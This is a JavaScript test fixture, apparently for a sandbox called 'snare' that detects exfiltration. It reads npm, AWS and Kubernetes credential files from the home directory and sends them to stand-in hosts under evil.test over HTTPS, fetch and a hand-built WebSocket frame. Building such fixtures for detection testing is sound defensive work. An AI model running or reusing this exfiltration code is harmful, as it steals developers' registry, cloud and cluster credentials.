// Test fixture, run only inside snare's sandbox: fake secrets, fake hosts.
const fs = require('fs'), os = require('os'), https = require('https'), tls = require('tls'), zlib = require('zlib');
const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const aws = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
const kube = fs.readFileSync(os.homedir() + '/.kube/config', 'utf8');

function viaHttps() {
  return new Promise(done => {
    const body = JSON.stringify({npmrc});
    const r = https.request({host: 'collector.evil.test', path: '/c', method: 'POST',
      headers: {'content-type': 'application/json', 'content-length': Buffer.byteLength(body)}},
      res => { res.resume(); res.on('end', () => { console.log('https', res.statusCode); done(); }); });
    r.on('error', e => { console.log('https error', e.message); done(); });
    r.end(body);
  });
}

async function viaFetch() {
  try {
    const res = await fetch('https://api.evil.test/v1/upload', {method: 'POST',
      headers: {'content-type': 'application/octet-stream', 'content-encoding': 'gzip'},
      body: zlib.gzipSync(aws)});
    console.log('fetch', res.status);
  } catch (e) { console.log('fetch error', e.message); }
}

function viaWebSocket() {
  return new Promise(done => {
    const s = tls.connect({host: 'ws.evil.test', port: 443, servername: 'ws.evil.test'}, () => {
      s.write('GET /socket HTTP/1.1\r\nHost: ws.evil.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
              'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n');
    });
    let up = false;
    s.on('data', d => {
      if (up || !d.toString().startsWith('HTTP/1.1 101')) return;
      up = true;
      console.log('websocket', d.toString().split('\r\n')[0]);
      const payload = Buffer.from(kube), mask = Buffer.from([1, 2, 3, 4]);
      const head = payload.length < 126 ? Buffer.from([0x81, 0x80 | payload.length])
        : Buffer.from([0x81, 0x80 | 126, payload.length >> 8, payload.length & 255]);
      const masked = Buffer.from(payload.map((b, i) => b ^ mask[i & 3]));
      s.write(Buffer.concat([head, mask, masked]));
      setTimeout(() => { s.end(); done(); }, 300);
    });
    s.on('error', e => { console.log('websocket error', e.message); done(); });
  });
}

viaHttps().then(viaFetch).then(viaWebSocket);
